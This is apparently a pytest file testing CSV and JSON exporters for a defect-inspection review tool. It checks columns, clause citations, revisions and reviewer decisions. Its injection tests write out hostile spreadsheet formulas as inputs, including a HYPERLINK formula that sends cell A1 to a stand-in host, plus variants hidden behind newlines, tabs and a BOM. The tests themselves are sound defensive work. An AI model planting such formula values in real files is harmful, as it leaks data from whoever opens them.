"""The tables and the JSON of an export: what stands in them, and that they keep no case."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from export_parts import PORE, SCRATCH, SPEC, Counted, manual, ruling, rulings
from secondlook.assessments import Assessment, Finding, Provenance
from secondlook.cases import Attachment, Case, CaseStatus, Role
from secondlook.decisions import Act, Area, Decision, FindingAct, How
from secondlook.evidence import Measurement
from secondlook.exporters import write_csv, write_findings, write_json
from secondlook.registry import Exporter
from secondlook.store.worklist import CaseExport

NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
MANUAL = manual()
BEFORE = (
    "case,domain,product,title,status,opened_at,recommended,score,findings,abstention,adapter,"
    "decided,reviewer,decided_at,reason"
)
"""The columns before there were clauses: programs may read them by their position."""


def exported(number: int = 0, **changes: Any) -> CaseExport:
    """A case with a first look and a decision that agrees to `pore` and adds `stain`."""
    case = Case(
        id=f"{number:064x}",
        domain="defect-inspector",
        title=f"plate {number}",
        product="cover plate",
        attachments=(
            Attachment(
                sha256="a" * 64, name="a.png", media_type="image/png", size=1, role=Role.IMAGE
            ),
        ),
        records=(MANUAL,),
        opened_at=NOON,
        spec=SPEC,
        status=CaseStatus.DECIDED,
    )
    finding = Finding(
        label="pore",
        title="Pore or blowhole",
        score=4.5,
        threshold=2.0,
        evidence=(
            SCRATCH,
            PORE,
            Measurement(name="length", value=6.25, unit="mm", region="1"),
            *rulings(MANUAL),
        ),
    )
    look = Assessment(
        id=f"{number:032x}",
        case_id=case.id,
        created_at=NOON,
        provenance=Provenance(code_version="0", inputs="i", adapter="a/1", spec=SPEC),
        findings=(finding,),
        evidence=(Measurement(name="count", value=2, unit=""),),
        disposition="scrap",
    )
    decision = Decision(
        id=f"{number:032x}",
        case_id=case.id,
        reviewer="Ada",
        disposition="rework",
        decided_at=NOON,
        acts=(
            FindingAct(label="pore", act=Act.AGREE),
            FindingAct(label="stain", act=Act.ADD),
        ),
    )
    values: dict[str, Any] = {"case": case, "assessment": look, "decisions": (decision,)}
    return CaseExport(**(values | changes))


def rows(write: Any, *cases: CaseExport) -> list[dict[str, str]]:
    out = io.StringIO()
    assert write(cases, out) == len(cases)
    out.seek(0)
    return list(csv.DictReader(out))


def test_a_case_is_one_row_with_its_clause_measurements_and_regions() -> None:
    (row,) = rows(write_csv, exported())
    assert row["manual_revision"] == "C"
    assert row["regions"] == "1 at 120,80 size 130x30; 2 at 390,250 size 20x20"
    assert row["measurements"] == "1: length 6.25 mm; count 2"
    assert row["clause"] == "cover-plate.pdf 2.3, page 3, line 41"
    assert (row["recommended"], row["clause_asks_for"], row["decided"]) == (
        "scrap",
        "scrap",
        "rework",
    )
    assert row["decided_findings"] == "pore;stain"


def test_the_columns_there_were_keep_their_places() -> None:
    out = io.StringIO()
    write_csv((), out)
    assert out.getvalue().startswith(BEFORE + ",")


def test_a_finding_is_one_row_with_the_measured_value_beside_the_limit() -> None:
    machine, added = rows(write_findings, exported())
    assert (machine["finding"], machine["found_by"], machine["act"]) == ("pore", "machine", "agree")
    assert (machine["measured"], machine["limit"]) == ("diameter 1.1 mm", "diameter above 1 mm")
    assert machine["clause_text"] == MANUAL.passages[1].text
    assert (machine["clause_page"], machine["clause_line"]) == ("3", "41")
    assert (added["finding"], added["found_by"], added["act"]) == ("stain", "person", "add")
    assert not any(added[x] for x in ("regions", "clause", "score", "measurements"))


def test_a_case_that_nobody_looked_at_has_a_row_and_no_finding() -> None:
    new = exported(assessment=None, decisions=())
    assert len(rows(write_csv, new)) == 1
    assert rows(write_findings, new) == []


def test_the_clause_that_applies_is_told_where_none_decides() -> None:
    whole = exported()
    assert whole.assessment is not None
    evidence = (
        ruling(MANUAL, 2, applies=None),
        ruling(MANUAL, 1, applies=False),
        ruling(MANUAL, 0),
    )
    finding = replace(whole.assessment.findings[0], evidence=evidence)
    look = replace(whole.assessment, findings=(finding,))
    (row,) = rows(write_csv, exported(assessment=look))
    assert row["clause"] == "cover-plate.pdf 2.1, page 3, line 40"


@pytest.mark.parametrize("write", [write_csv, write_findings])
def test_a_clause_or_a_name_from_outside_never_becomes_a_formula(write: Any) -> None:
    whole = exported()
    evil = manual(("=HYPERLINK(1)", "@SUM(1)", "-1+1"), name="=cmd.pdf")
    assert whole.assessment is not None
    region = replace(SCRATCH, name="=2+5")
    finding = replace(
        whole.assessment.findings[0],
        title="+1",
        evidence=(region, replace(rulings(evil)[1], limit="=1", measured="\t=1")),
    )
    case = replace(whole.case, spec=replace(SPEC, revision="@C"), product="=1")
    look = replace(whole.assessment, findings=(finding,))
    for row in rows(write, exported(case=case, assessment=look)):
        assert not [x for x in row.values() if x.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("write", [write_csv, write_findings])
@pytest.mark.parametrize(
    "title",
    [
        'plate 7;=HYPERLINK("http://x/?"&A1;"ok").png',
        "\n=1+1",
        "plate\n=1+1",
        "plate\r\n@SUM(1)",
        "plate\t-1+1",
        'plate;"=1+1"',
        'plate; "" +1',
        "plate;;=1",
        "＝1+1",
        " =1",
        "\ufeff=1",
    ],
)
def test_no_spreadsheet_sees_a_formula_whatever_ends_its_cells(write: Any, title: str) -> None:
    """A semicolon where commas are decimal points; a tab where the text is pasted."""
    item = exported(case=replace(exported().case, title=title))
    out = io.StringIO()
    write((item,), out)
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter):
            cells = [x.lstrip(' "\n\r\t\ufeff') for x in row]
            assert not [x for x in cells if x.startswith(tuple("=+-@＝＋－＠"))]


def test_what_is_no_formula_stays_as_it_is() -> None:
    item = exported(case=replace(exported().case, title="part 7; 2 - 3 mm, a=b; c"))
    (row,) = rows(write_csv, item)
    assert row["title"] == "part 7; 2 - 3 mm, a=b; c"


def test_a_row_says_under_which_revision_its_recommendation_was_made() -> None:
    now = replace(SPEC, revision="D", manual="d" * 64)
    case = replace(exported().case, spec=now, status=CaseStatus.ASSESSED)
    for write in (write_csv, write_findings):
        row = rows(write, exported(case=case, decisions=()))[0]
        assert (row["manual_revision"], row["case_revision"]) == ("C", "D")
        assert row["outdated"] == "made without the product's manual; not judged again yet"
    (row,) = rows(write_csv, exported())
    assert (row["case_revision"], row["outdated"], row["later_look"]) == ("C", "", "")
    out = io.StringIO()
    write_json((exported(case=case, decisions=()),), out)
    assert "not judged again yet" in json.loads(out.getvalue())[0]["outdated"]


def test_a_decided_case_shows_the_look_that_the_person_saw() -> None:
    case = exported().case
    decision = exported().decisions[0]
    seen = exported().assessment
    assert seen is not None
    later = replace(seen, id="b" * 32, disposition="accept", findings=())
    on_seen = replace(decision, assessment_id=seen.id)
    item = CaseExport.of(case, (seen, later), (on_seen,))
    assert (item.assessment, item.later) == (seen, later)
    (row,) = rows(write_csv, item)
    assert (row["recommended"], row["later_recommended"]) == ("scrap", "accept")
    assert row["later_look"] == NOON.isoformat()
    assert CaseExport.of(case, (later, seen), (on_seen,)).later is None
    unseen = CaseExport.of(case, (seen,), (decision,))
    assert (unseen.assessment, unseen.later) == (None, seen)
    opened = CaseExport.of(replace(case, status=CaseStatus.NEW), (seen, later), (on_seen,))
    assert (opened.assessment, opened.later) == (later, None)


def test_no_text_of_a_note_stands_in_a_table() -> None:
    note = replace(manual(("Jane Roe, 54, chest pain",), name="note.txt"), kind="note")
    case = replace(exported().case, domain="radiology-assistant", records=(note,), spec=None)
    look = replace(exported().assessment, findings=())  # type: ignore[type-var]
    for write in (write_csv, write_findings):
        out = io.StringIO()
        write((exported(case=case, assessment=look),), out)
        assert "Jane Roe" not in out.getvalue()
        assert "note.txt" not in out.getvalue()


def test_json_holds_everything_about_a_case() -> None:
    out = io.StringIO()
    assert write_json((exported(1), exported(2)), out) == 2
    first, _ = json.loads(out.getvalue())
    evidence = first["assessment"]["findings"][0]["evidence"]
    assert [x["limit"] for x in evidence if x["kind"] == "ruling" and x["decides"]] == [
        "diameter above 1 mm"
    ]
    assert [x["name"] for x in evidence if x["kind"] == "region"] == ["1", "2"]
    assert first["case"]["spec"]["revision"] == "C"


class Nowhere(io.TextIOBase):
    """Takes text and keeps none."""

    def write(self, text: str) -> int:
        return len(text)


@pytest.mark.parametrize("write", [write_csv, write_findings, write_json])
def test_no_case_is_kept_once_it_is_written(write: Any) -> None:
    cases = Counted(500, exported)
    assert write(cases, Nowhere()) == 500
    assert cases.most <= 2


@pytest.mark.parametrize("given", [{}, {"write": write_csv, "build": write_csv}])
def test_a_format_gives_exactly_one_way_to_write(given: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="must give `write` or `build`"):
        Exporter(name="x", description="", **given)


def test_what_a_person_said_of_a_finding_stands_beside_it() -> None:
    area = Area(attachment="0" * 64, left=1, top=2, width=3, height=4)
    acts = (
        FindingAct(label="pore", act=Act.EDIT, becomes="crack", severity="major", area=area),
        FindingAct(label="pore", act=Act.ADD, site="rim", comment="=one more"),
    )
    item = decided_on(acts)
    machine, added = rows(write_findings, item)
    assert (machine["finding"], machine["act_becomes"]) == ("pore", "crack")
    assert (machine["act_severity"], machine["act_area"]) == ("major", "at 1,2 size 3x4")
    assert (added["found_by"], added["act"], added["act_site"]) == ("person", "add", "rim")
    assert added["act_comment"] == "'=one more"
    (row,) = rows(write_csv, item)
    assert (row["decided_findings"], row["how_decided"]) == ("crack;pore", "agreed")
    assert (row["first_reader"], row["reason_codes"]) == ("Bob", "dirt;other")
    (still_open,) = rows(write_csv, replace(item, case=replace(item.case, status=CaseStatus.NEW)))
    assert (still_open["decided"], still_open["decided_findings"]) == ("", "")


def decided_on(acts: tuple[FindingAct, ...]) -> CaseExport:
    """A case that two readers agreed on."""
    item = exported()
    first = replace(item.decisions[0], id="f" * 32, reviewer="Bob", how=How.FIRST)
    second = replace(
        item.decisions[0],
        acts=acts,
        how=How.AGREED,
        second_to=first.id,
        reason_codes=("dirt", "other"),
    )
    return replace(item, decisions=(second,), reads=(first,))
